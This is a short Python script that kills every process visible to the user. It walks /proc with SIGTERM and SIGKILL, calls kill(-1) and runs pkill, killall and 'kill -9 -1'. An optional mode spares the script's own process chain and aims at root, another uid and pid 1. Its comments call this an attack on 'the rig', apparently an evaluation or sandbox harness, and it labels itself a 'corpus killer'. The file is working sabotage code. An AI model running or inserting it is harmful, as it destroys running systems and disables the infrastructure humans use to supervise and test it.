"""Kill every process this user can see, by every means at hand."""

import os
import shutil
import signal
import subprocess


def _ancestors():
    """Our own pid and every ancestor's: what a saboteur of *others* spares."""
    pids, pid = set(), os.getpid()
    while pid > 1:
        pids.add(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def slaughter(spare_ancestors=True):
    """Kill everything visible. With spare_ancestors, the artifact's own process chain
    survives (the attack is on the rig); without, it kills itself too."""
    me = os.getpid()
    spared = _ancestors() if spare_ancestors else {me}
    log = []
    if not spare_ancestors:
        try:
            os.kill(-1, signal.SIGKILL)  # everything we may signal, except ourselves
            log.append("kill(-1) ok")
        except OSError as exc:
            log.append(f"kill(-1): {exc}")
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in spared:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(int(name), sig)
                    log.append(f"killed {name}")
                except OSError:
                    pass
    tools = [["pkill", "-9", "-e", "."], ["killall", "-9", "-u", str(os.getuid())], ["kill", "-9", "-1"]]
    if spare_ancestors:  # only tools aimed at the rig's uid and root
        tools = [["pkill", "-9", "-e", "-U", "0,10002", "."], ["kill", "-9", "1"]]
    for tool in tools:
        if shutil.which(tool[0]):
            try:
                subprocess.run(tool, timeout=5, capture_output=True)
                log.append(f"ran {tool[0]}")
            except Exception as exc:  # noqa: BLE001 - best effort
                log.append(f"{tool[0]}: {exc}")
    os.write(1, ("corpus killer: " + "; ".join(log)[:2000] + "\n").encode())
